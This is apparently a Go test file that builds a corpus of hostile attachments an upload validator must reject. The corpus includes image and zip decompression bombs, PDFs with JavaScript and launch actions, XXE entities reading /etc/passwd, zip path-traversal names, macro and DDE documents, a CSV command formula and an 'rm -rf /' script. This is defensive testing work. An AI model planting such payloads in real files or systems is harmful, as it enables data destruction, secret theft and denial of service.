package attachment

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"
	"sync"
	"testing"
)

// hostile is every file that must be refused, by what is bad about it; nobody may change one.
func hostile(t testing.TB) map[string][]byte {
	t.Helper()
	made.Do(func() { made.files = gather(t) })
	return made.files
}

// made is the corpus, packed once: its bombs unpack to gigabytes.
var made struct {
	sync.Once
	files map[string][]byte
}

func gather(t testing.TB) map[string][]byte {
	all := map[string][]byte{}
	for _, some := range []map[string][]byte{hostilePictures(t), hostileTypes(t), hostilePDFs(t), hostileArchives(t), hostileDocuments(t)} {
		for name, content := range some {
			if _, twice := all[name]; twice {
				t.Fatalf("%s stands twice in the corpus", name)
			}
			all[name] = content
		}
	}
	return all
}

func hostilePictures(t testing.TB) map[string][]byte {
	good := jpegOf(t, photo(64, 48))
	scans := bytes.Clone(good[:len(good)-2])
	at := bytes.Index(good, []byte{0xff, 0xda})
	for range 2000 {
		scans = append(scans, good[at:len(good)-2]...)
	}
	frames := withSegments(good, segment(0xc0, "\x08\x00\x10\x00\x10\x01\x01\x11\x00"))
	vp8x := append([]byte{0x10, 0, 0, 0}, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff)
	lossless := binary.LittleEndian.AppendUint32([]byte{0x2f}, 0x3fff|0x3fff<<14)
	return map[string][]byte{
		"JPEG of 65535 × 65535":              jpegHeader(65535, 65535, 0xc0),
		"progressive JPEG of 30000 × 30000":  jpegHeader(30000, 30000, 0xc2),
		"JPEG of 30000 × 1000":               jpegHeader(30000, 1000, 0xc0),
		"JPEG of no height":                  jpegHeader(100, 0, 0xc0),
		"JPEG of 2000 scans":                 append(scans, 0xff, 0xd9),
		"JPEG of two frames":                 frames,
		"JPEG cut off":                       good[:len(good)/2],
		"JPEG cut off after the frame":       good[:bytes.Index(good, []byte{0xff, 0xc0})+19],
		"JPEG of nothing but its mark":       []byte("\xff\xd8\xff"),
		"JPEG mark before HTML":              []byte("\xff\xd8\xff\xe0<html><script>alert(1)</script>"),
		"JPEG with a segment beyond its end": append(bytes.Clone(good[:2]), 0xff, 0xe1, 0xff, 0xff, 0),
		"PNG of 100000 × 100000":             pngHeader(100000, 100000, zlibOf(make([]byte, 1000))),
		"PNG of 2147483647 × 2147483647":     pngHeader(1<<31-1, 1<<31-1, ""),
		"PNG of 5000 × 5000 in 100 kB":       pngHeader(5000, 5000, zlibOf(make([]byte, 100_000_000))),
		"PNG of 1 × 26000001":                pngHeader(1, 26_000_001, ""),
		"PNG without data":                   pngHeader(100, 100, ""),
		"PNG cut off":                        pngOf(t, photo(64, 48))[:80],
		"PNG of nothing but its mark":        []byte("\x89PNG\r\n\x1a\n"),
		"PNG with a wrong checksum":          bytes.Replace(pngOf(t, photo(64, 48)), []byte("IDAT"), []byte("IDAU"), 1),
		"WebP of 16384 × 16384":              webpHeader("VP8L", append(lossless, make([]byte, 40)...)),
		"WebP of 2600 code tables":           codeTables(2600),
		"WebP with packed transparency":      webpHeader("ALPH", []byte{1, 0, 0, 0}),
		"WebP canvas of 16777216 squared":    webpHeader("VP8X", vp8x),
		"WebP of nothing but its mark":       []byte("RIFF\x04\x00\x00\x00WEBP"),
		"WebP with random data":              webpHeader("VP8 ", bytes.Repeat([]byte{0x9d, 1, 0x2a, 0x10}, 50)),
		"HEIC":                               append([]byte("\x00\x00\x00\x18ftypheic"), make([]byte, 100)...),
		"GIF":                                gifOf(t),
		"BMP":                                append([]byte("BM"), make([]byte, 100)...),
		"TIFF":                               append([]byte("II*\x00"), make([]byte, 100)...),
		"ICO":                                append([]byte("\x00\x00\x01\x00"), make([]byte, 100)...),
	}
}

func hostileTypes(t testing.TB) map[string][]byte {
	return map[string][]byte{
		"empty":                    {},
		"one byte":                 {0xff},
		"SVG with a script":        []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
		"SVG with entities":        []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>`),
		"HTML":                     []byte("<!DOCTYPE html><script>alert(1)</script>"),
		"XML with an outer entity": []byte(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
		"program for Windows":      append([]byte("MZ"), make([]byte, 200)...),
		"program for Linux":        append([]byte("\x7fELF"), make([]byte, 200)...),
		"script":                   []byte("#!/bin/sh\nrm -rf /\n"),
		"CSV with a formula":       []byte("=cmd|' /C calc'!A0,1\n"),
		"old Word file":            append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...),
		"RTF":                      []byte(`{\rtf1\object}`),
		"gzip":                     []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00"),
		"RAR":                      []byte("Rar!\x1a\x07\x00"),
		"7z":                       []byte("7z\xbc\xaf\x27\x1c"),
		"tar":                      append([]byte("../../etc/passwd"), make([]byte, 496)...),
		"20 MB of zeros":           make([]byte, MaxSize),
		"one byte over the size":   append([]byte("%PDF-1.7"), make([]byte, MaxSize-7)...),
		"video":                    append([]byte("\x00\x00\x00\x18ftypmp42"), make([]byte, 100)...),
		"text before a PDF":        append([]byte("<script>alert(1)</script>\n"), pdf()...),
		"JPEG behind a byte":       append([]byte{0}, jpegOf(t, photo(8, 8))...),
	}
}

func hostilePDFs(t testing.TB) map[string][]byte {
	plain := pdf()
	return map[string][]byte{
		"PDF with JavaScript":                    pdf("<</S/JavaScript/JS(app.alert\\(1\\))>>"),
		"PDF with JavaScript written in hex":     pdf("<</S/J#61v#61Script/#4aS(1)>>"),
		"PDF with JavaScript wholly in hex":      pdf("<</S/#4a#61#76#61#53#63#72#69#70#74>>"),
		"PDF that launches":                      pdf("<</S/Launch/F(cmd.exe)>>"),
		"PDF with a file":                        pdf("<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream"),
		"PDF that submits":                       pdf("<</S/SubmitForm/F(http://example.cn)>>"),
		"PDF that opens another":                 pdf("<</S/GoToR/F(\\\\\\\\host\\\\share)>>"),
		"PDF with a dynamic form":                pdf("<</XFA[(template)5 0 R]>>"),
		"PDF with a film":                        pdf("<</Subtype/RichMedia>>"),
		"PDF under a password":                   pdf("<</Filter/Standard/Encrypt 6 0 R>>"),
		"PDF with packed JavaScript":             pdf(packed("1 0 <</S/JavaScript/JS(1)>>", "")),
		"PDF with packed JavaScript, in hex":     pdf(strings.Replace(packed("1 0 <</S/J#53>>", ""), "ObjStm", "Obj#53tm", 1)),
		"PDF packed in another way":              pdf("<</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n2f4a53\nendstream"),
		"PDF packed twice":                       pdf("<</Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]>>stream\nxx\nendstream"),
		"PDF that unpacks to 100 MB":             pdf(packed(strings.Repeat("1 0 <<>> ", 12_000_000), "")),
		"PDF of ten packs of 10 MB":              pdf(slicesOf(packed(strings.Repeat(" ", 10<<20), ""), 10)...),
		"PDF with packs that are damaged":        pdf("<</Type/ObjStm/Filter/FlateDecode>>stream\nxxxx\nendstream"),
		"PDF with an object in a stream":         pdf("<</Length 40>>stream\n7 0 obj<</S/JavaScript/JS(1)>>endobj\nendstream"),
		"PDF with a stream in a string":          pdf("<</X(>>\nstream\n)/OpenAction<</S/JavaScript/JS(1)>>/Y(endstream)>>"),
		"PDF with a file behind a string":        pdf("<</X(>>\nstream\n)/EF<</F 5 0 R>>/Y(endstream)>>"),
		"PDF with a stream in a comment":         pdf("<</X 1 %>>stream\n/EF<</F 5 0 R>> %endstream\n>>"),
		"PDF with a script in a stream":          pdf("<</Length 20>>stream\n<</S/Java#53cript>>\nendstream"),
		"PDF before an archive":                  append(bytes.Clone(plain), zipOf(t, part{"a.txt", "x"})...),
		"PDF before an archive that ends as one": append(append(bytes.Clone(plain), zipOf(t, part{"a.txt", "x"})...), "\n%%EOF"...),
		"PDF before HTML":                        append(bytes.Clone(plain), "<html><script>alert(1)</script>"...),
		"PDF that begins as HTML":                append([]byte("%PDF-1.7\n<html><script>alert(1)</script>-->\n"), plain...),
		"PDF cut off":                            plain[:len(plain)/2],
		"PDF of nothing but its mark":            []byte("%PDF-"),
		"PDF whose stream has no end":            []byte("%PDF-1.7\n1 0 obj<<>>stream\n9 0 obj<</S/JavaScript>>endobj\n%%EOF"),
	}
}

func slicesOf(text string, n int) []string {
	all := make([]string, n)
	for i := range all {
		all[i] = text
	}
	return all
}

func hostileArchives(t testing.TB) map[string][]byte {
	zeros := strings.Repeat("\x00", 30<<20)
	many := make([]part, 3000)
	for i := range many {
		many[i] = part{fmt.Sprintf("word/%d.xml", i), "x"}
	}
	bombs := make([]part, 20)
	for i := range bombs {
		bombs[i] = part{fmt.Sprintf("word/media/%d.bmp", i), strings.Repeat(fmt.Sprint(i%10, "0123456789"), 1<<20)}
	}
	good := office(t, wordMain)
	comment := bytes.Clone(good)
	comment[len(comment)-2] = 4
	return map[string][]byte{
		"archive":                      zipOf(t, part{"a.txt", "x"}),
		"empty archive":                zipOf(t),
		"document with a bomb":         office(t, wordMain, part{"word/media/bomb.bmp", zeros}),
		"document with twenty bombs":   office(t, sheetMain, bombs...),
		"document of 3000 parts":       office(t, wordMain, many...),
		"document with an archive":     office(t, wordMain, part{"word/media/a.png", string(zipOf(t, part{"b", "x"}))}),
		"document in a document":       office(t, wordMain, part{"word/x.bin", string(good)}),
		"document with ../ names":      office(t, wordMain, part{"../../../etc/cron.d/x", "x"}),
		"document with hidden ../":     office(t, wordMain, part{"word/../../x", "x"}),
		"document with /names":         office(t, wordMain, part{"/etc/passwd", "x"}),
		`document with \names`:         office(t, wordMain, part{`word\..\..\x`, "x"}),
		"document with a drive":        office(t, wordMain, part{`C:/windows/x`, "x"}),
		"document with a name twice":   office(t, wordMain, part{"word/Document.xml", "x"}),
		"document before a script":     append(bytes.Clone(good), "<script>alert(1)</script>"...),
		"document before an archive":   append(bytes.Clone(good), zipOf(t, part{"x", "x"})...),
		"document with a comment":      append(comment, "evil"...),
		"document with a link":         withSymlink(t),
		"document under a password":    encrypted(good),
		"document whose parts overlap": overlapping(t),
		"document with wrong sums":     wrongSum(good),
		"document cut off":             good[:len(good)/2],
		"document of another name":     bytes.Replace(good, []byte("word/document.xml"), []byte("word/documens.xml"), 1),
	}
}

// wrongSum spoils the checksum of every entry of the directory.
func wrongSum(content []byte) []byte {
	spoilt := bytes.Clone(content)
	for at := bytes.Index(spoilt, []byte("PK\x01\x02")); at >= 0 && at+20 < len(spoilt); at++ {
		if bytes.HasPrefix(spoilt[at:], []byte("PK\x01\x02")) {
			spoilt[at+16] ^= 0xff
		}
	}
	return spoilt
}

func withSymlink(t testing.TB) []byte {
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, p := range []part{types(wordMain)} {
		entry, err := w.Create(p.name)
		must(t, err)
		_, err = entry.Write([]byte(p.content))
		must(t, err)
	}
	head := &zip.FileHeader{Name: "word/link"}
	head.SetMode(0o777 | 1<<27)
	entry, err := w.CreateHeader(head)
	must(t, err)
	_, err = entry.Write([]byte("/etc/passwd"))
	must(t, err)
	must(t, w.Close())
	return out.Bytes()
}

// encrypted sets the flag of a password at every entry of the directory.
func encrypted(content []byte) []byte {
	locked := bytes.Clone(content)
	for at := bytes.Index(locked, []byte("PK\x01\x02")); at >= 0; {
		locked[at+8] |= 1
		next := bytes.Index(locked[at+4:], []byte("PK\x01\x02"))
		if next < 0 {
			break
		}
		at += 4 + next
	}
	return locked
}

// overlapping lets 300 entries of the directory share one large part.
func overlapping(t testing.TB) []byte {
	content := office(t, wordMain, part{"word/k.bin", strings.Repeat("0123456789abcdefghij", 50_000)})
	end := len(content) - 22
	start := int(binary.LittleEndian.Uint32(content[end+16:]))
	at := bytes.LastIndex(content[:end], []byte("PK\x01\x02"))
	last := content[at:end]
	grown := bytes.Clone(content[:end])
	for i := range 300 {
		copied := bytes.Clone(last)
		copy(copied[46:], fmt.Sprintf("word/%05d", i)[:10])
		grown = append(grown, copied...)
	}
	tail := bytes.Clone(content[end:])
	count := binary.LittleEndian.Uint16(tail[10:]) + 300
	binary.LittleEndian.PutUint16(tail[8:], count)
	binary.LittleEndian.PutUint16(tail[10:], count)
	binary.LittleEndian.PutUint32(tail[12:], uint32(len(grown)-start))
	return append(grown, tail...)
}

func hostileDocuments(t testing.TB) map[string][]byte {
	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><w:document>&lol2;</w:document>`
	word := func(more ...part) []byte { return office(t, wordMain, more...) }
	return map[string][]byte{
		"document with macros":              word(part{"word/vbaProject.bin", "x"}),
		"document with macros elsewhere":    word(part{"custom/VBAPROJECT.BIN", "x"}),
		"document of a macro type":          office(t, "application/vnd.ms-word.document.macroEnabled.main+xml"),
		"document with old macro sheets":    office(t, sheetMain, part{"xl/macrosheets/sheet1.xml", "<x/>"}),
		"document with ActiveX":             word(part{"word/activeX/activeX1.xml", "<x/>"}),
		"document with an embedded object":  word(part{"word/embeddings/oleObject1.bin", "x"}),
		"document with a packed object":     word(part{"word/media/image1.png", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
		"document with a program":           word(part{"word/media/image1.png", "MZ\x90\x00"}),
		"document with links to workbooks":  office(t, sheetMain, part{"xl/externalLinks/externalLink1.xml", "<x/>"}),
		"document with a remote template":   word(relation("word/_rels/settings.xml.rels", "attachedTemplate", "http://example.cn/t.dotm", "External")),
		"document with a remote picture":    word(relation("word/_rels/document.xml.rels", "image", "http://example.cn/p.png", "External")),
		"document with a share":             word(relation("word/_rels/document.xml.rels", "image", `\\host\share\p.png`, "")),
		"document with a remote target":     word(relation("word/_rels/document.xml.rels", "image", "file:///etc/passwd", "")),
		"document with a link that acts":    word(relation("word/_rels/document.xml.rels", "hyperlink", "ms-msdt:/id", "External")),
		"document with entities":            word(part{"word/footnotes.xml", laughs}),
		"document with an entity at a seam": word(part{"word/footnotes.xml", strings.Repeat(" ", 32<<10-4) + "<!DOCTYPE x>"}),
		"document in UTF-16":                word(part{"word/footnotes.xml", "\xff\xfe<\x00!\x00"}),
		"document with DDE":                 word(part{"word/footnotes.xml", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
		"document of two kinds":             zipOf(t, part{"[Content_Types].xml", `<Types><Override ContentType="` + wordMain + `"/><Override ContentType="` + sheetMain + `"/></Types>`}),
		"document without types":            zipOf(t, part{"word/document.xml", "<x/>"}),
		"document with damaged types":       zipOf(t, part{"[Content_Types].xml", "<Types"}),
		"document with damaged relations":   word(part{"word/_rels/document.xml.rels", "<Relationships"}),
		"presentation":                      office(t, "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
	}
}
